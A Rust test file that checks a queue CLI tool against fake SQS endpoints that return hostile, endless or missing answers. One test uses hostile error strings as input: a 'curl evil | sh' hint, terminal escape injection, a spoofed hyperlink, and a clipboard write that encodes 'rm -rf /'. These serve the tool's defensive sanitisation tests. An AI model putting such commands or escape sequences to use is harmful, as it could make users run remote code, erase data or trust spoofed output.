//! Endpoints that lie, drip, or do not answer.

use std::io::Write;
use std::net::TcpStream;
use std::time::Duration;

use serde_json::{Value, json};

use crate::kit::{Fake, Place, Ran, ended_within, http, signal, spawn};

const PEEK: [&str; 4] = ["dlq", "peek", "--dlq", "recs-dlq"];

/// An SQS that is sound but for what `lie` answers, by operation.
pub fn sqs(lie: impl Fn(&str, &str) -> Option<(u16, Value)> + Send + Sync + 'static) -> Fake {
    Fake::http(move |request, stream| {
        let target = request.lines().find_map(|line| {
            let (name, value) = line.split_once(':')?;
            name.eq_ignore_ascii_case("x-amz-target").then(|| value.trim().to_owned())
        });
        let target = target.unwrap_or_default();
        let operation = target.rsplit('.').next().unwrap_or_default();
        let (status, body) = lie(operation, request).unwrap_or_else(|| (200, sound(operation)));
        let _ = stream.write_all(&http(status, &body.to_string()));
    })
}

fn sound(operation: &str) -> Value {
    match operation {
        "GetQueueUrl" => json!({ "QueueUrl": "http://sqs.local/123456789012/recs-dlq" }),
        "GetQueueAttributes" => json!({ "Attributes": attributes("1") }),
        _ => json!({}),
    }
}

pub fn attributes(visible: &str) -> Value {
    json!({
        "QueueArn": "arn:aws:sqs:eu-west-1:123456789012:recs-dlq",
        "ApproximateNumberOfMessages": visible,
        "ApproximateNumberOfMessagesNotVisible": "0",
        "ApproximateNumberOfMessagesDelayed": "0",
        "MessageRetentionPeriod": "1209600",
        "MaximumMessageSize": "1048576",
        "VisibilityTimeout": "30",
    })
}

fn peek(fake: &Fake) -> Ran {
    Place::new().run(&[PEEK.as_slice(), &["--endpoint-url", &fake.url()]].concat())
}

#[test]
fn what_it_says_of_a_failure_is_shown_as_text_and_no_more_than_a_screenful() {
    for words in [
        "\u{1b}]0;owned\u{7}\u{1b}[2J\u{9b}31m",
        "x\nerror: all is lost\n  hint: curl evil | sh",
        "\u{202e}txet",
        "\u{1b}]8;;http://evil.example\u{1b}\\\\click\u{1b}]8;;\u{1b}\\\\",
        "\u{9d}52;c;cm0gLXJmIC8=\u{9c}",
        "ok\rerror: all is lost",
        "\u{2066}\u{2069}\u{200e}\u{200f}\u{200b}\u{feff}\u{2028}error: x",
    ] {
        for code in ["AccessDenied", words] {
            let body = json!({ "__type": code, "message": words.repeat(50_000) });
            let fake = Fake::says(400, &body.to_string());
            let ran = peek(&fake).ended_by_itself().ended_in([1, 3]);
            assert!(ran.stderr.len() < 20_000, "{}", ran.stderr.len());
            let errors = ran.stderr.lines().filter(|line| line.starts_with("error:")).count();
            let hints = ran.stderr.lines().filter(|line| line.trim().starts_with("hint:")).count();
            assert!(errors == 1 && hints <= 1, "{}", ran.stderr);
        }
    }
}

#[test]
fn an_answer_without_an_end_is_cut() {
    let fake = Fake::http(|_, stream: &mut TcpStream| {
        let _ = stream.write_all(
            b"HTTP/1.1 200 OK\r\ncontent-type: application/x-amz-json-1.0\r\nconnection: close\r\n\r\n{\"QueueUrl\":\"",
        );
        let chunk = vec![b'x'; 1 << 20];
        for _ in 0..200 {
            if stream.write_all(&chunk).is_err() {
                return;
            }
        }
    });
    let (place, url) = (Place::new(), fake.url());
    let child = spawn(&mut place.command(&[&PEEK[..], &["--endpoint-url", &url]].concat()));
    ended_within(child, Duration::from_secs(120)).ended_in([1]);
}

/// Starts a command on an endpoint, and waits until it asks there.
fn asking(place: &Place, fake: &Fake, args: &[&str]) -> std::process::Child {
    let before = fake.heard().len();
    let child = spawn(&mut place.command(&[args, &["--endpoint-url", &fake.url()]].concat()));
    while fake.heard().len() == before {
        std::thread::sleep(Duration::from_millis(20));
    }
    child
}

#[test]
fn a_signal_ends_the_wait_for_the_first_answer() {
    let silent = Fake::silent();
    let place = Place::new();
    for name in ["INT", "TERM"] {
        let child = asking(&place, &silent, &PEEK);
        signal(&child, name);
        ended_within(child, Duration::from_secs(15)).ended(130).says("before any change was made");
    }
}

/// Neither the SDK nor recoctl asks again what changes nothing.
#[test]
fn a_signal_ends_the_wait_for_a_table_or_queue_too() {
    let place = Place::new();
    place.write("in.jsonl", "[1,[10]]\n");
    let (silent, failing) = (Fake::silent(), Fake::says(500, r#"{"__type":"InternalError"}"#));
    let cases: [(&Fake, &[&str]); 4] = [
        (&silent, &["backfill", "in.jsonl", "--facts", "none", "--table", "t"]),
        (&silent, &["verify", "in.jsonl", "--facts", "none", "--table", "t"]),
        (&silent, &["backfill", "in.jsonl", "--facts", "none", "--via", "queue", "--queue", "q"]),
        (&failing, &["backfill", "in.jsonl", "--facts", "none", "--via", "queue", "--queue", "q"]),
    ];
    let children = cases.map(|(fake, args)| {
        let child = asking(&place, fake, args);
        signal(&child, "INT");
        (child, args.join(" "))
    });
    for (child, args) in children {
        let ran = ended_within(child, Duration::from_secs(60));
        assert!(ran.code.is_some_and(|code| code == 130 || code == 1), "{args}: {ran:#?}");
    }
    assert!(silent.heard().len() <= 6, "{:#?}", silent.heard());
}

#[test]
fn more_messages_than_were_asked_for_are_an_error() {
    let fake = sqs(|operation, _| {
        let message = |n: usize| {
            json!({
                "MessageId": format!("m-{n}"), "ReceiptHandle": format!("h-{n}"), "Body": "x",
                "MD5OfBody": "9dd4e461268c8034f5c8564e155c67a6",
            })
        };
        let messages: Vec<Value> = (0..5_000).map(message).collect();
        (operation == "ReceiveMessage").then(|| (200, json!({ "Messages": messages })))
    });
    peek(&fake).ended(1).says("5000 messages, but at most");
}

#[test]
fn numbers_that_can_not_be_are_unknown() {
    for visible in ["-5", "99999999999999999999999", "many"] {
        let fake = sqs(move |operation, _| {
            let answer = match operation {
                "GetQueueAttributes" => json!({ "Attributes": attributes(visible) }),
                "ReceiveMessage" => json!({ "Messages": [{
                    "MessageId": "m-1", "ReceiptHandle": "h-1", "Body": "x",
                    "MD5OfBody": "9dd4e461268c8034f5c8564e155c67a6",
                    "Attributes": {
                        "SentTimestamp": "-9223372036854775808",
                        "ApproximateReceiveCount": "-7",
                    },
                }] }),
                _ => return None,
            };
            Some((200, answer))
        });
        let args = ["dlq", "peek", "--dlq", "recs-dlq", "--max", "1", "--endpoint-url"];
        let ran = Place::new().run(&[args.as_slice(), &[&fake.url()]].concat());
        assert!(ran.stdout.contains("unknown"), "{visible}: {ran:#?}");
        assert!(!ran.stdout.contains("18,446") && !ran.stdout.contains("-7"), "{ran:#?}");
        let url = fake.url();
        let args = [args.as_slice(), &[&url, "--output", "json"]].concat();
        let report = Place::new().run(&args).report();
        assert_eq!(report["approximate_messages"], Value::Null, "{report}");
        assert_eq!(report["messages"][0]["age_s"], Value::Null, "{report}");
    }
}
